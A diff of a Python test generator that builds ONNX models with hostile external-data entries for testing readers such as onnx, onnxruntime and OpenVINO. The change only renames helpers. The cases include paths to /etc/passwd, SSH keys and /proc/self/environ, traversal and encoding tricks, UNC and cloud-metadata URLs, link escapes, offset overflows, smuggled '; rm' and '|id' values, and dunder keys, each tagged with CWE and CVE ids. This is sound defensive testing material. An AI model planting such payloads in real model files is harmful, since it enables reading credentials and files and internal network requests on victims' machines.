@@ -18,13 +18,14 @@ from .writer import (
     X,
     Y,
     attribute,
-    carrier,
     external,
     external_pairs,
     function,
     graph,
     integer,
     model,
+    model_with_extras,
+    model_with_weight,
     network,
     node,
     record,
@@ -32,25 +33,26 @@ from .writer import (
     tensor,
     value,
     values,
-    weighted,
 )
 
 READERS = "onnx, onnxruntime, OpenVINO, converters"
-RAW = struct.pack("<4f", 1, 2, 3, 4)
+WEIGHTS = struct.pack("<4f", 1, 2, 3, 4)
 OUTSIDE = "../outside.bin"
 
 
-def located(location, **keys):
-    return weighted(external_pairs("w", [("location", location), *keys.items()]))
+def model_with_location(location, **keys):
+    """Return a model whose weight is external data at a location."""
+    return model_with_weight(external_pairs("w", [("location", location), *keys.items()]))
 
 
-def paths(attack, rows, **options):
-    for name, what, location in rows:
-        attack(name, what, located(location), **options)
+def add_path_attacks(attack, rows, **options):
+    """Add an attack for each (name, effect, location)."""
+    for name, effect, location in rows:
+        attack(name, effect, model_with_location(location), **options)
 
 
 attack = declare("path-absolute", "files", "External data has an absolute path.", "CWE-36", READERS)
-paths(attack, [("passwd", "The location is /etc/passwd.", "/etc/passwd"), ("environ",
+add_path_attacks(attack, [("passwd", "The location is /etc/passwd.", "/etc/passwd"), ("environ",
     "The location is /proc/self/environ: secrets in environment variables.", "/proc/self/environ"), ("memory",
     "The location is /proc/self/mem.", "/proc/self/mem"), ("ssh-key", "The location is /root/.ssh/id_rsa.",
     "/root/.ssh/id_rsa"), ("double-slash", "The location is //etc/passwd, which some sanitizers reduce to one slash.",
@@ -58,13 +60,14 @@ paths(attack, [("passwd", "The location is /etc/passwd.", "/etc/passwd"), ("envi
     "The location is ' /etc/passwd' with a space that some readers strip.", " /etc/passwd"), ("file-url",
     "The location is the URL file:///etc/passwd.", "file:///etc/passwd")], cve="CVE-2022-25882")
 attack = declare("path-traversal", "files", "External data leaves the model's folder by '..'.", "CWE-22", READERS)
-paths(attack, [("parent", "The location is ../outside.bin.", OUTSIDE), ("many-parents",
+add_path_attacks(attack, [("parent", "The location is ../outside.bin.", OUTSIDE), ("many-parents",
     "The location is ../../../../../../etc/passwd.", "../../../../../../etc/passwd")], cve="CVE-2022-25882")
-paths(attack, [("through-folder", "The location is folder/../../outside.bin: a check of the first component passes.",
-    "folder/../../outside.bin"), ("dot-parent", "The location is ./../outside.bin.", "./../outside.bin"),
-    ("double-slash", "The location is .//..//outside.bin.", ".//..//outside.bin"), ("long-way",
+add_path_attacks(attack, [("through-folder",
+    "The location is folder/../../outside.bin: a check of the first component passes.", "folder/../../outside.bin"), (
+    "dot-parent", "The location is ./../outside.bin.", "./../outside.bin"), ("double-slash",
+    "The location is .//..//outside.bin.", ".//..//outside.bin"), ("long-way",
     "The location goes up and down 50 times.", "a/../" * 50 + OUTSIDE)], cve="CVE-2024-27318")
-paths(attack, [("backslash", "The location is ..\\outside.bin: up on Windows, a file name on POSIX.",
+add_path_attacks(attack, [("backslash", "The location is ..\\outside.bin: up on Windows, a file name on POSIX.",
     "..\\outside.bin"), ("mixed-slashes", "The location is folder\\..\\../outside.bin.",
     "folder\\..\\../outside.bin"), ("four-dots",
     "The location is ....//outside.bin: removing '../' once leaves '../'.", "....//outside.bin"), ("dots-with-space",
@@ -74,15 +77,15 @@ paths(attack, [("backslash", "The location is ..\\outside.bin: up on Windows, a 
     "The location has full-width dots and slash, which NFKC turns into '../'.", "\uff0e\uff0e\uff0foutside.bin"),
     ("two-dot-leader", "The location has a two dot leader, which NFKC turns into '..'.", "\u2025/outside.bin"),
     ("parent-only", "The location is '..'.", "..")])
-attack("write-target", "Saving with external data would write to ../outside.bin.", located(OUTSIDE, offset=0,
-    length=16), cve="CVE-2025-51480")
+attack("write-target", "Saving with external data would write to ../outside.bin.", model_with_location(OUTSIDE,
+    offset=0, length=16), cve="CVE-2025-51480")
 attack("with-checksum", "The location is ../outside.bin, with offset, length and a checksum as sound files have.",
-    located(OUTSIDE, offset=4096, length=16, checksum="0" * 40), cve="CVE-2024-27318")
+    model_with_location(OUTSIDE, offset=4096, length=16, checksum="0" * 40), cve="CVE-2024-27318")
 
 attack = declare("path-expansion", "files",
     "A location is a path outside of the folder after an expansion that some readers do.", "CWE-73", READERS)
-paths(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("percent-slash", "..%2foutside.bin",
-    "..%2foutside.bin"), ("percent-twice", "%252e%252e%252foutside.bin, decoded twice.",
+add_path_attacks(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("percent-slash",
+    "..%2foutside.bin", "..%2foutside.bin"), ("percent-twice", "%252e%252e%252foutside.bin, decoded twice.",
     "%252e%252e%252foutside.bin"), ("percent-absolute", "%2Fetc%2Fpasswd", "%2Fetc%2Fpasswd"), ("percent-nul",
     "weights.bin%00.txt", "weights.bin%00.txt"), ("home", "~/.ssh/id_rsa", "~/.ssh/id_rsa"), ("user-home",
     "~root/.bashrc", "~root/.bashrc"), ("dollar", "$HOME/.aws/credentials", "$HOME/.aws/credentials"), ("braces",
@@ -91,19 +94,19 @@ paths(attack, [("percent-dots", "%2e%2e/outside.bin", "%2e%2e/outside.bin"), ("p
     "|id"), ("glob", "*.bin", "*.bin")])
 attack = declare("path-network", "files",
     "A location is a network address: a reader may send requests or credentials.", "CWE-918", READERS)
-paths(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends the user's hash.", "\\\\192.0.2.1\\share\\w.bin"),
-    ("unc-slashes", "//192.0.2.1/share/w.bin", "//192.0.2.1/share/w.bin"), ("unc-webdav",
-    "\\\\192.0.2.1@80\\share\\w.bin", "\\\\192.0.2.1@80\\share\\w.bin"), ("https", "https://192.0.2.1/w.bin",
-    "https://192.0.2.1/w.bin"), ("metadata-service", "http://169.254.169.254/latest/meta-data/",
-    "http://169.254.169.254/latest/meta-data/"), ("s3", "s3://bucket/w.bin", "s3://bucket/w.bin"), ("file-host",
-    "file://192.0.2.1/share/w.bin", "file://192.0.2.1/share/w.bin"), ("data-url",
+add_path_attacks(attack, [("unc", "\\\\192.0.2.1\\share\\w.bin: Windows sends the user's hash.",
+    "\\\\192.0.2.1\\share\\w.bin"), ("unc-slashes", "//192.0.2.1/share/w.bin", "//192.0.2.1/share/w.bin"), (
+    "unc-webdav", "\\\\192.0.2.1@80\\share\\w.bin", "\\\\192.0.2.1@80\\share\\w.bin"), ("https",
+    "https://192.0.2.1/w.bin", "https://192.0.2.1/w.bin"), ("metadata-service",
+    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/"), ("s3", "s3://bucket/w.bin",
+    "s3://bucket/w.bin"), ("file-host", "file://192.0.2.1/share/w.bin", "file://192.0.2.1/share/w.bin"), ("data-url",
     "data:application/octet-stream;base64,AAAA", "data:application/octet-stream;base64,AACAPwAAgD8AAIA/AACAPw=="),
     ("hub", "hf://someone/model/w.bin", "hf://someone/model/w.bin"), ("smb-url", "smb://192.0.2.1/share/w.bin",
     "smb://192.0.2.1/share/w.bin"), ("jar-url", "jar:http://192.0.2.1/x.jar!/w.bin",
     "jar:http://192.0.2.1/x.jar!/w.bin")])
 attack = declare("path-windows", "files",
     "A location means something else on Windows: drives, devices, streams, stripped characters.", "CWE-67", READERS)
-paths(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Windows\\win.ini"), ("drive-slashes",
+add_path_attacks(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Windows\\win.ini"), ("drive-slashes",
     "C:/Windows/win.ini", "C:/Windows/win.ini"), ("drive-relative",
     "C:w.bin, relative to the current folder of drive C", "C:w.bin"), ("root-relative",
     "\\Windows\\win.ini, relative to the current drive", "\\Windows\\win.ini"), ("device-path",
@@ -116,164 +119,176 @@ paths(attack, [("drive-absolute", "C:\\Windows\\win.ini", "C:\\Windows\\win.ini"
     "PROGRA~1\\w.bin")])
 attack = declare("path-device", "files", "A location is a device, a pipe or a folder: reads do not end or block.",
     "CWE-66", READERS)
-paths(attack, [("zero", "/dev/zero never ends.", "/dev/zero"), ("random", "/dev/random", "/dev/random"), ("stdin",
-    "/dev/stdin blocks.", "/dev/stdin"), ("tty", "/dev/tty", "/dev/tty"), ("file-descriptor", "/proc/self/fd/0",
-    "/proc/self/fd/0"), ("folder", "The location is '.', the model's folder.", "."), ("empty",
+add_path_attacks(attack, [("zero", "/dev/zero never ends.", "/dev/zero"), ("random", "/dev/random", "/dev/random"), (
+    "stdin", "/dev/stdin blocks.", "/dev/stdin"), ("tty", "/dev/tty", "/dev/tty"), ("file-descriptor",
+    "/proc/self/fd/0", "/proc/self/fd/0"), ("folder", "The location is '.', the model's folder.", "."), ("empty",
     "The location is empty.", ""), ("slash", "The location is 'folder/'.", "folder/")],
-    files={"folder/present.bin": RAW})
-attack("named-pipe", "The location is a named pipe in the folder: opening it blocks for ever.", located("pipe.bin"),
-    files={"pipe.bin": Fifo()})
+    files={"folder/present.bin": WEIGHTS})
+attack("named-pipe", "The location is a named pipe in the folder: opening it blocks for ever.", model_with_location(
+    "pipe.bin"), files={"pipe.bin": Fifo()})
 
 attack = declare("path-characters", "files",
     "A location has NUL, control or invisible characters, so that checks and the system see different names.",
     "CWE-158", READERS)
-paths(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop at the NUL.", "nul.bin\0.txt"), ("nul-parent",
-    "'../outside.bin' NUL 'x/../../w.bin'.", "../outside.bin\0x/../../w.bin"), ("newline",
+add_path_attacks(attack, [("nul-suffix", "'nul.bin' NUL '.txt': C functions stop at the NUL.", "nul.bin\0.txt"), (
+    "nul-parent", "'../outside.bin' NUL 'x/../../w.bin'.", "../outside.bin\0x/../../w.bin"), ("newline",
     "A newline in the location forges log lines.", "w.bin\nINFO: checksum ok"), ("escape",
     "A terminal escape sequence in the location.", "\x1b]0;pwned\x07w.bin"), ("bidi",
     "A right-to-left override: 'nib.elbatucexe' looks like another file.", "weights\u202enib.exe"), ("zero-width",
     "A zero-width space in the location.", "nul\u200b.bin"), ("long", "A location of 70,000 characters.",
     "a" * 70000), ("deep", "A location of 5,000 folders.", "a/" * 5000 + "w.bin"), ("tab",
-    "A tab before the location.", "\tnul.bin")], files={"nul.bin": RAW})
+    "A tab before the location.", "\tnul.bin")], files={"nul.bin": WEIGHTS})
 
 attack = declare("link", "files", "The location is inside of the folder, and the file is a link that leaves it.",
     "CWE-59", "onnx before 1.21, onnxruntime, OpenVINO, converters")
-attack("symlink", "A symbolic link to ../outside.bin.", located("link.bin"), cve="CVE-2026-27489",
+attack("symlink", "A symbolic link to ../outside.bin.", model_with_location("link.bin"), cve="CVE-2026-27489",
     files={"link.bin": Symlink(OUTSIDE)})
-attack("symlink-absolute", "A symbolic link to /etc/passwd.", located("passwd.bin"), cve="CVE-2026-27489",
+attack("symlink-absolute", "A symbolic link to /etc/passwd.", model_with_location("passwd.bin"), cve="CVE-2026-27489",
     files={"passwd.bin": Symlink("/etc/passwd")})
-attack("symlink-folder", "The folder of the file is a symbolic link to '..'.", located("up/outside.bin"),
+attack("symlink-folder", "The folder of the file is a symbolic link to '..'.", model_with_location("up/outside.bin"),
     cve="CVE-2026-27489", files={"up": Symlink("..")})
-attack("symlink-chain", "A chain of three links.", located("chain1.bin"), files={"chain1.bin": Symlink("chain2.bin"),
-    "chain2.bin": Symlink("chain3.bin"), "chain3.bin": Symlink(OUTSIDE)})
-attack("symlink-loop", "A link to itself.", located("loop.bin"), files={"loop.bin": Symlink("loop.bin")})
+attack("symlink-chain", "A chain of three links.", model_with_location("chain1.bin"), files={"chain1.bin": Symlink(
+    "chain2.bin"), "chain2.bin": Symlink("chain3.bin"), "chain3.bin": Symlink(OUTSIDE)})
+attack("symlink-loop", "A link to itself.", model_with_location("loop.bin"), files={"loop.bin": Symlink("loop.bin")})
 attack("symlink-dangling", "A link to a file that does not exist yet: saving would create it.",
-    located("dangling.bin"), files={"dangling.bin": Symlink("../created.bin")}, cve="CVE-2025-51480")
-attack("symlink-device", "A link to /dev/zero.", located("zero.bin"), files={"zero.bin": Symlink("/dev/zero")})
-attack("hardlink", "A hard link to ../outside.bin: no check of paths sees it.", located("hard.bin"),
+    model_with_location("dangling.bin"), files={"dangling.bin": Symlink("../created.bin")}, cve="CVE-2025-51480")
+attack("symlink-device", "A link to /dev/zero.", model_with_location("zero.bin"), files={"zero.bin": Symlink(
+    "/dev/zero")})
+attack("hardlink", "A hard link to ../outside.bin: no check of paths sees it.", model_with_location("hard.bin"),
     cve="CVE-2026-34446", files={"hard.bin": Hardlink(OUTSIDE)}, affects="onnx before 1.21, onnxruntime, OpenVINO")
-attack("proc-link", "The location goes through /proc/self/cwd by a link.", located("cwd/outside.bin"),
+attack("proc-link", "The location goes through /proc/self/cwd by a link.", model_with_location("cwd/outside.bin"),
     files={"cwd": Symlink("/proc/self/cwd")})
 
 # Ranges
 
 attack = declare("range-beyond-file", "files", "Offset and length lead beyond the file.", "CWE-125", READERS)
-BIN = {"range.bin": bytes(64)}
+FILES = {"range.bin": bytes(64)}
 
 
-def ranged(name, what, dims=(4,), data_type=FLOAT, cwe="CWE-125", **keys):
-    attack(name, what, weighted(external_pairs("w", [("location", "range.bin"), *keys.items()], dims, data_type)),
-        files=BIN, cwe=cwe)
+def range_attack(name, effect, dims=(4,), data_type=FLOAT, cwe="CWE-125", **keys):
+    """Add an attack with external data. keys: the entries besides the location."""
+    attack(name, effect, model_with_weight(external_pairs("w", [("location", "range.bin"), *keys.items()], dims,
+        data_type)), files=FILES, cwe=cwe)
 
 
-ranged("offset", "The offset is 2^20 in a file of 64 bytes.", offset=1 << 20, length=16)
-ranged("offset-last", "Offset 60 and length 16 in a file of 64 bytes.", offset=60, length=16)
-ranged("length", "The length is 2^40.", offset=0, length=1 << 40)
-ranged("dims", "No length is given; the shape needs 4 GiB of a file of 64 bytes.", dims=(1 << 30,))
-ranged("sum-overflow", "Offset 2^63 - 16 and length 32: the sum overflows.", offset=(1 << 63) - 16, length=32,
+range_attack("offset", "The offset is 2^20 in a file of 64 bytes.", offset=1 << 20, length=16)
+range_attack("offset-last", "Offset 60 and length 16 in a file of 64 bytes.", offset=60, length=16)
+range_attack("length", "The length is 2^40.", offset=0, length=1 << 40)
+range_attack("dims", "No length is given; the shape needs 4 GiB of a file of 64 bytes.", dims=(1 << 30,))
+range_attack("sum-overflow", "Offset 2^63 - 16 and length 32: the sum overflows.", offset=(1 << 63) - 16, length=32,
     cwe="CWE-190")
-ranged("sum-overflow-unsigned", "Offset 2^64 - 16 and length 32.", offset=(1 << 64) - 16, length=32, cwe="CWE-190")
-ranged("offset-negative", "The offset is -16.", offset=-16, length=16)
-ranged("length-negative", "The length is -1.", offset=0, length=-1)
-ranged("offset-huge", "The offset has 400 digits.", offset="9" * 400, length=16)
-ranged("empty-at-end", "Offset 2^50 and length 0 for a tensor without elements.", dims=(0,), offset=1 << 50, length=0)
-attack("missing-file", "The file does not exist.", located("nosuch.bin"))
-attack("file-too-short", "The file is empty.", located("void.bin"), files={"void.bin": b""})
+range_attack("sum-overflow-unsigned", "Offset 2^64 - 16 and length 32.", offset=(1 << 64) - 16, length=32,
+    cwe="CWE-190")
+range_attack("offset-negative", "The offset is -16.", offset=-16, length=16)
+range_attack("length-negative", "The length is -1.", offset=0, length=-1)
+range_attack("offset-huge", "The offset has 400 digits.", offset="9" * 400, length=16)
+range_attack("empty-at-end", "Offset 2^50 and length 0 for a tensor without elements.", dims=(0,), offset=1 << 50,
+    length=0)
+attack("missing-file", "The file does not exist.", model_with_location("nosuch.bin"))
+attack("file-too-short", "The file is empty.", model_with_location("void.bin"), files={"void.bin": b""})
 attack("sparse-file", "The file is 1 TiB of zeros that take no disk space; the tensor is as large.",
-    carrier([external("o", [1 << 38], location="tera.bin")]), files={"tera.bin": Sparse(1 << 40)}, cwe="CWE-400")
+    model_with_extras([external("o", [1 << 38], location="tera.bin")]), files={"tera.bin": Sparse(1 << 40)},
+    cwe="CWE-400")
 
 attack = declare("range-not-number", "files",
     "Offset or length is no plain decimal number: readers parse it differently.", "CWE-1286", READERS)
-BIN = {"number.bin": bytes(range(64))}
+FILES = {"number.bin": bytes(range(64))}
 
 
-def numbered(name, what, offset, length="16"):
-    attack(name, what, weighted(external_pairs("w", [("location", "number.bin"), ("offset", offset), ("length",
-        length)])), files=BIN)
+def number_attack(name, effect, offset, length="16"):
+    """Add an attack whose offset and length are these texts."""
+    attack(name, effect, model_with_weight(external_pairs("w", [("location", "number.bin"), ("offset", offset), (
+        "length", length)])), files=FILES)
 
 
-numbered("hexadecimal", "The offset is 0x10: 16 or 0.", "0x10")
-numbered("octal", "The offset is 010: 10 or 8.", "010")
-numbered("exponent", "The offset is 1e1.", "1e1")
-numbered("plus", "The offset is +16.", "+16")
-numbered("space", "The offset is ' 16 '.", " 16 ")
-numbered("underscore", "The offset is 1_6: 16 in Python, 1 in C.", "1_6")
-numbered("arabic-digits", "The offset is 16 in Arabic digits: Python accepts them.", "\u0661\u0666")
-numbered("suffix", "The offset is '16; rm': C functions stop at the semicolon.", "16; rm")
-numbered("empty", "The offset is empty.", "")
-numbered("fraction", "The offset is 16.0.", "16.0")
-numbered("length-nan", "The length is 'nan'.", "0", "nan")
-numbered("length-suffix", "The length is 16K.", "0", "16K")
+number_attack("hexadecimal", "The offset is 0x10: 16 or 0.", "0x10")
+number_attack("octal", "The offset is 010: 10 or 8.", "010")
+number_attack("exponent", "The offset is 1e1.", "1e1")
+number_attack("plus", "The offset is +16.", "+16")
+number_attack("space", "The offset is ' 16 '.", " 16 ")
+number_attack("underscore", "The offset is 1_6: 16 in Python, 1 in C.", "1_6")
+number_attack("arabic-digits", "The offset is 16 in Arabic digits: Python accepts them.", "\u0661\u0666")
+number_attack("suffix", "The offset is '16; rm': C functions stop at the semicolon.", "16; rm")
+number_attack("empty", "The offset is empty.", "")
+number_attack("fraction", "The offset is 16.0.", "16.0")
+number_attack("length-nan", "The length is 'nan'.", "0", "nan")
+number_attack("length-suffix", "The length is 16K.", "0", "16K")
 
 attack = declare("length-mismatch", "files", "The length of external data differs from what the shape needs.",
     "CWE-131", READERS)
-BIN = {"mismatch.bin": bytes(4096)}
+FILES = {"mismatch.bin": bytes(4096)}
 
 
-def mismatch(name, what, dims=(4,), data_type=FLOAT, **keys):
-    attack(name, what, weighted(external_pairs("w", [("location", "mismatch.bin"), *keys.items()], dims, data_type)),
-        files=BIN)
+def length_attack(name, effect, dims=(4,), data_type=FLOAT, **keys):
+    """Add an attack with external data of another size than the tensor. keys: the entries besides the location."""
+    attack(name, effect, model_with_weight(external_pairs("w", [("location", "mismatch.bin"), *keys.items()], dims,
+        data_type)), files=FILES)
 
 
-mismatch("shorter", "Four floats with a length of 4 bytes.", length=4)
-mismatch("longer", "Four floats with a length of 4,096 bytes, which hides the rest.", length=4096)
-mismatch("zero", "Four floats with a length of 0.", length=0)
-mismatch("int8", "A length for int8, the type is double.", data_type=11, length=4)
-mismatch("unaligned", "An offset of 3: a mapped view is misaligned.", offset=3, length=16)
-mismatch("scalar", "A scalar with a length of 64.", dims=(), length=64)
+length_attack("shorter", "Four floats with a length of 4 bytes.", length=4)
+length_attack("longer", "Four floats with a length of 4,096 bytes, which hides the rest.", length=4096)
+length_attack("zero", "Four floats with a length of 0.", length=0)
+length_attack("int8", "A length for int8, the type is double.", data_type=11, length=4)
+length_attack("unaligned", "An offset of 3: a mapped view is misaligned.", offset=3, length=16)
+length_attack("scalar", "A scalar with a length of 64.", dims=(), length=64)
 
 attack = declare("range-overlap", "files",
     "Ranges of tensors overlap: writing one changes another, or content is counted twice.", "CWE-1260", READERS)
 
 
-def pair(name, what, first, second, size=64):
+def overlap_attack(name, effect, first, second, size=64):
+    """Add an attack with two tensors in one file. first, second: their offsets and lengths in bytes."""
     file = f"{name}.bin"
     extra = external_pairs("v", [("location", file), ("offset", second[0]), ("length", second[1])], (second[1] // 4,))
     weight = external_pairs("w", [("location", file), ("offset", first[0]), ("length", first[1])], (first[1] // 4,))
     body = graph([node("Add", ["x", "w"], ["y"]), node("Neg", ["v"], ["z"])], [X], [value("y", FLOAT, [None]),
         value("z", FLOAT, [None])], [weight, extra])
-    attack(name, what, model(body), files={file: bytes(size)})
+    attack(name, effect, model(body), files={file: bytes(size)})
 
 
-pair("partial", "The second tensor begins within the first.", (0, 16), (8, 16))
-pair("one-byte", "The second tensor begins one byte before the end of the first.", (0, 16), (15, 16))
-pair("inside", "The second tensor is inside of the first.", (0, 64), (16, 16))
-pair("same-start", "Both begin at 0 with different lengths.", (0, 16), (0, 32))
-attack("many", "200 tensors are views of the same 4 KiB, each shifted by 4 bytes.", carrier([external(f"t{i}", [800],
-    location="many.bin", offset=4 * i, length=3200) for i in range(200)]), files={"many.bin": bytes(4096)})
+overlap_attack("partial", "The second tensor begins within the first.", (0, 16), (8, 16))
+overlap_attack("one-byte", "The second tensor begins one byte before the end of the first.", (0, 16), (15, 16))
+overlap_attack("inside", "The second tensor is inside of the first.", (0, 64), (16, 16))
+overlap_attack("same-start", "Both begin at 0 with different lengths.", (0, 16), (0, 32))
+attack("many", "200 tensors are views of the same 4 KiB, each shifted by 4 bytes.", model_with_extras([external(f"t{i}",
+    [800], location="many.bin", offset=4 * i, length=3200) for i in range(200)]), files={"many.bin": bytes(4096)})
 attack("quadratic", "300 tensors of 1 MiB each in a file of 1 MiB: reading all costs 300 MiB.",
-    carrier([external(f"t{i}", [1 << 18], location="mega.bin", offset=0, length=1 << 20) for i in range(300)]),
-    files={"mega.bin": Sparse(1 << 20)}, cwe="CWE-409")
+    model_with_extras([external(f"t{i}", [1 << 18], location="mega.bin", offset=0, length=1 << 20) for i in range(
+    300)]), files={"mega.bin": Sparse(1 << 20)}, cwe="CWE-409")
 
 attack = declare("own-file", "files", "External data is the model itself or another file of its kind.", "CWE-610",
     READERS)
-attack("model", "The location is the model file.", located("model.onnx"), files={})
+attack("model", "The location is the model file.", model_with_location("model.onnx"), files={})
 attack("model-with-range", "The location is the model file, the range its first 16 bytes.",
-    located("model-with-range.onnx", offset=0, length=16))
-attack("model-dot-slash", "The location is ./model-dot-slash.onnx.", located("./model-dot-slash.onnx"))
-attack("other-model", "The location is another model of the folder.", located("model.onnx", offset=8, length=16))
-attack("link-to-model", "The location is a link to the model file.", located("self.bin"),
+    model_with_location("model-with-range.onnx", offset=0, length=16))
+attack("model-dot-slash", "The location is ./model-dot-slash.onnx.", model_with_location("./model-dot-slash.onnx"))
+attack("other-model", "The location is another model of the folder.", model_with_location("model.onnx", offset=8,
+    length=16))
+attack("link-to-model", "The location is a link to the model file.", model_with_location("self.bin"),
     files={"self.bin": Symlink("link-to-model.onnx")})
-attack("hardlink-to-model", "The location is a hard link to the model file.", located("self2.bin"),
+attack("hardlink-to-model", "The location is a hard link to the model file.", model_with_location("self2.bin"),
     files={"self2.bin": Hardlink("hardlink-to-model.onnx")})
 attack("upper-case", "The location is MODEL.ONNX: the model on file systems that ignore case.",
-    located("UPPER-CASE.ONNX"))
+    model_with_location("UPPER-CASE.ONNX"))
 
 attack = declare("shared-range", "files", "Unrelated tensors share the same bytes of a file.", "CWE-1260", READERS)
-BIN = {"shared.bin": bytes(64)}
+FILES = {"shared.bin": bytes(64)}
 
 
-def shared(name, what, first, second):
+def shared_bytes_attack(name, effect, first, second):
+    """Add an attack with two tensors of the same bytes. first, second: their dims and data types."""
     tensors = [external_pairs("w", [("location", "shared.bin"), ("length", "16")], *first), external_pairs("v",
         [("location", "shared.bin"), ("length", "16")], *second)]
-    attack(name, what, model(graph([node("Add", ["x", "w"], ["y"]), node("Identity", ["v"], ["z"])], [X], [value("y"),
-        value("z", second[1])], tensors)), files=BIN)
+    attack(name, effect, model(graph([node("Add", ["x", "w"], ["y"]), node("Identity", ["v"], ["z"])], [X], [value("y"),
+        value("z", second[1])], tensors)), files=FILES)
 
 
-shared("float-and-int64", "A float and an int64 tensor are the same bytes.", ((4,), FLOAT), ((2,), INT64))
-shared("float-and-bool", "A float and a bool tensor are the same bytes.", ((4,), FLOAT), ((16,), BOOL))
-shared("two-shapes", "Two float tensors of other shapes are the same bytes.", ((4,), FLOAT), ((2, 2), FLOAT))
-shared("float-and-int8", "Weights and a quantized tensor are the same bytes.", ((4,), FLOAT), ((16,), INT8))
+shared_bytes_attack("float-and-int64", "A float and an int64 tensor are the same bytes.", ((4,), FLOAT), ((2,), INT64))
+shared_bytes_attack("float-and-bool", "A float and a bool tensor are the same bytes.", ((4,), FLOAT), ((16,), BOOL))
+shared_bytes_attack("two-shapes", "Two float tensors of other shapes are the same bytes.", ((4,), FLOAT), ((2, 2),
+    FLOAT))
+shared_bytes_attack("float-and-int8", "Weights and a quantized tensor are the same bytes.", ((4,), FLOAT), ((16,),
+    INT8))
 
 # Checksums
 
@@ -281,59 +296,62 @@ attack = declare("checksum", "files", "The checksum of external data is wrong or
     "CWE-354", READERS)
 
 
-def digest(name, what, text):
-    attack(name, what, weighted(external("w", location="digest.bin", offset=0, length=16, checksum=text)),
-        files={"digest.bin": RAW})
+def checksum_attack(name, effect, text):
+    """Add an attack whose external data has this text as its checksum."""
+    attack(name, effect, model_with_weight(external("w", location="digest.bin", offset=0, length=16, checksum=text)),
+        files={"digest.bin": WEIGHTS})
 
 
-digest("wrong", "The SHA1 is of other content.", hashlib.sha1(b"other").hexdigest())
-digest("short", "The checksum has 8 digits.", hashlib.sha1(RAW).hexdigest()[:8])
-digest("not-hexadecimal", "The checksum is 'trust me'.", "trust me")
-digest("md5", "The checksum is an MD5.", hashlib.md5(RAW).hexdigest())
-digest("zeros", "The checksum is forty zeros.", "0" * 40)
-digest("empty", "The checksum is empty.", "")
-digest("of-range-only", "The checksum is prefixed with 'sha1:'.", "sha1:" + hashlib.sha1(RAW).hexdigest())
+checksum_attack("wrong", "The SHA1 is of other content.", hashlib.sha1(b"other").hexdigest())
+checksum_attack("short", "The checksum has 8 digits.", hashlib.sha1(WEIGHTS).hexdigest()[:8])
+checksum_attack("not-hexadecimal", "The checksum is 'trust me'.", "trust me")
+checksum_attack("md5", "The checksum is an MD5.", hashlib.md5(WEIGHTS).hexdigest())
+checksum_attack("zeros", "The checksum is forty zeros.", "0" * 40)
+checksum_attack("empty", "The checksum is empty.", "")
+checksum_attack("of-range-only", "The checksum is prefixed with 'sha1:'.", "sha1:" + hashlib.sha1(WEIGHTS).hexdigest())
 
 attack = declare("path-ambiguous", "files", "Two names may be one file, or a place that other users can write to.",
     "CWE-367", READERS)
 
 
-def ambiguous(name, what, first, second, files):
+def two_paths_attack(name, effect, first, second, files):
+    """Add an attack with two tensors. first, second: their locations."""
     tensors = [external("w", location=first, offset=0, length=16), external("v", location=second, offset=0, length=16)]
-    attack(name, what, model(graph([node("Add", ["x", "w"], ["a"]), node("Add", ["a", "v"], ["y"])], [X], [Y],
+    attack(name, effect, model(graph([node("Add", ["x", "w"], ["a"]), node("Add", ["a", "v"], ["y"])], [X], [Y],
         tensors)), files=files)
 
 
-ambiguous("case", "Case.bin and case.bin are one file on Windows and macOS.", "Case.bin", "case.bin",
-    {"Case.bin": RAW, "case.bin": RAW[::-1]})
-ambiguous("normalization", "Two spellings of a file name with an accent, composed and decomposed.", "caf\u00e9.bin",
-    "cafe\u0301.bin", {"caf\u00e9.bin": RAW, "cafe\u0301.bin": RAW[::-1]})
-ambiguous("dot-segments", "amb.bin and ./folder/../amb.bin are one file.", "amb.bin", "./folder/../amb.bin",
-    {"amb.bin": RAW, "folder/present.bin": RAW})
-attack("tmp", "The location is /tmp/weights.bin, where every user can write.", located("/tmp/weights.bin"))
-attack("shared-memory", "The location is /dev/shm/weights.bin.", located("/dev/shm/weights.bin"))
-attack("look-alike", "weights.bin with a Cyrillic letter beside the real one.", located("w\u0435ights.bin",
-    length=16), files={"w\u0435ights.bin": RAW, "weights.bin": RAW[::-1]})
+two_paths_attack("case", "Case.bin and case.bin are one file on Windows and macOS.", "Case.bin", "case.bin",
+    {"Case.bin": WEIGHTS, "case.bin": WEIGHTS[::-1]})
+two_paths_attack("normalization", "Two spellings of a file name with an accent, composed and decomposed.",
+    "caf\u00e9.bin", "cafe\u0301.bin", {"caf\u00e9.bin": WEIGHTS, "cafe\u0301.bin": WEIGHTS[::-1]})
+two_paths_attack("dot-segments", "amb.bin and ./folder/../amb.bin are one file.", "amb.bin", "./folder/../amb.bin",
+    {"amb.bin": WEIGHTS, "folder/present.bin": WEIGHTS})
+attack("tmp", "The location is /tmp/weights.bin, where every user can write.", model_with_location("/tmp/weights.bin"))
+attack("shared-memory", "The location is /dev/shm/weights.bin.", model_with_location("/dev/shm/weights.bin"))
+attack("look-alike", "weights.bin with a Cyrillic letter beside the real one.", model_with_location("w\u0435ights.bin",
+    length=16), files={"w\u0435ights.bin": WEIGHTS, "weights.bin": WEIGHTS[::-1]})
 
 attack = declare("external-key", "files",
     "external_data has keys that set attributes of the reader's objects, or none of those it needs.", "CWE-915",
     "onnx before 1.21, onnxruntime")
 
 
-def keys(name, what, *pairs, cve="CVE-2026-34445"):
-    attack(name, what, weighted(external_pairs("w", [("location", "keys.bin"), *pairs])), cve=cve,
-        files={"keys.bin": RAW})
+def key_attack(name, effect, *pairs, cve="CVE-2026-34445"):
+    """Add an attack whose external data has additional entries."""
+    attack(name, effect, model_with_weight(external_pairs("w", [("location", "keys.bin"), *pairs])), cve=cve,
+        files={"keys.bin": WEIGHTS})
 
 
-keys("class", "A key is __class__.", ("__class__", "builtins.dict"))
-keys("dict", "A key is __dict__.", ("__dict__", "{}"))
-keys("basepath", "A key is basepath: onnx joins it with the location.", ("basepath", "/etc"))
-keys("init", "A key is __init__.", ("__init__", "x"))
-keys("huge-attribute", "A key sets length to 10^18, which is read at once.", ("length", "1" + "0" * 18))
